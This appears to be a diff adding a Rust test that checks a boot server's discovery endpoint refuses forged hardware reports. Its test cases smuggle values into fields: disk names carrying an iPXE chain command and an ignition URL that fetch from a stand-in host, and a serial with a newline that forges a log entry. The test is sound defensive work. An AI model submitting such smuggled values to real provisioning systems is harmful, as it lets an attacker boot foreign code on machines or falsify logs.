@@ -165,3 +165,94 @@ async fn serves_the_discovery_image_from_its_own_folder() {
     assert!(answer.starts_with("HTTP/1.1 404"), "{answer}");
     assert!(answer.contains("discovery-image/build.sh"), "{answer}");
 }
+
+fn post(addr: std::net::SocketAddr, body: &str) -> String {
+    request(
+        addr,
+        &format!(
+            "POST /discovery HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+            body.len()
+        ),
+    )
+}
+
+/// The tester's forged reports (issue 30): each is refused with a 400 naming the field, and
+/// nothing reaches the sink (the inventory).
+#[tokio::test(flavor = "multi_thread")]
+async fn forged_discovery_reports_are_refused_naming_the_field() {
+    let dir = tempfile::tempdir().unwrap();
+    let boot = HttpBoot::new(
+        dir.path().to_path_buf(),
+        Url::parse("http://127.0.0.1:8080/").unwrap(),
+        ServiceMode::Apply,
+    );
+    let reports: Arc<std::sync::Mutex<Vec<PhysicalHost>>> = Arc::default();
+    let seen = reports.clone();
+    let sink: DiscoverySink = Arc::new(move |h| {
+        seen.lock().unwrap().push(h);
+        Ok(())
+    });
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = boot.serve_on(listener, Some(sink)).unwrap();
+    let good = || {
+        serde_json::json!({"id": "host-a", "hostname": null, "macs": ["52:54:00:00:00:31"],
+            "cpu_count": 4, "memory_bytes": 8589934592u64,
+            "disks": [{"name": "sda", "size_bytes": 107374182400u64, "rotational": false}],
+            "serial": "CZJ1234567", "uuid": "4c4c4544-0042-3510-8051-b7c04f4e3232"})
+    };
+    let disk = |name: &str| serde_json::json!([{"name": name, "size_bytes": 1u64 << 30, "rotational": false}]);
+    let many_disks: Vec<serde_json::Value> = (0..5000)
+        .map(|i| serde_json::json!({"name": format!("nvme{}n{}", i / 1000, i % 1000), "size_bytes": 512, "rotational": false}))
+        .collect();
+    let cases: Vec<(&str, serde_json::Value, &str)> = vec![
+        (
+            "disks",
+            disk("sda\nchain http://192.0.2.66/pwn.ipxe"),
+            "disks[0].name",
+        ),
+        (
+            "disks",
+            disk("sda coreos.inst.ignition_url=http://192.0.2.66/x.ign"),
+            "disks[0].name",
+        ),
+        ("disks", disk("sda${net0/ip}"), "disks[0].name"),
+        ("macs", serde_json::json!([]), "field macs:"),
+        ("cpu_count", 0.into(), "field cpu_count:"),
+        ("memory_bytes", u64::MAX.into(), "field memory_bytes:"),
+        (
+            "disks",
+            serde_json::Value::Array(many_disks),
+            "field disks:",
+        ),
+        ("serial", "x".repeat(900 * 1024).into(), "field serial:"),
+        (
+            "serial",
+            "CZJ1\nINFO discovery: host evil approved".into(),
+            "field serial:",
+        ),
+        ("uuid", "not-a-uuid".into(), "field uuid:"),
+    ];
+    for (key, value, expected) in cases {
+        let mut body = good();
+        body[key] = value;
+        let body = body.to_string();
+        let answer = tokio::task::spawn_blocking(move || post(addr, &body))
+            .await
+            .unwrap();
+        assert!(answer.starts_with("HTTP/1.1 400"), "{key}: {answer:.300}");
+        assert!(answer.contains(expected), "{key}: {answer:.300}");
+    }
+    assert!(
+        reports.lock().unwrap().is_empty(),
+        "a forged report reached the inventory"
+    );
+    let body = good().to_string();
+    let answer = tokio::task::spawn_blocking(move || post(addr, &body))
+        .await
+        .unwrap();
+    assert!(answer.starts_with("HTTP/1.1 201"), "{answer}");
+    assert_eq!(
+        reports.lock().unwrap()[0].serial.as_deref(),
+        Some("CZJ1234567")
+    );
+}
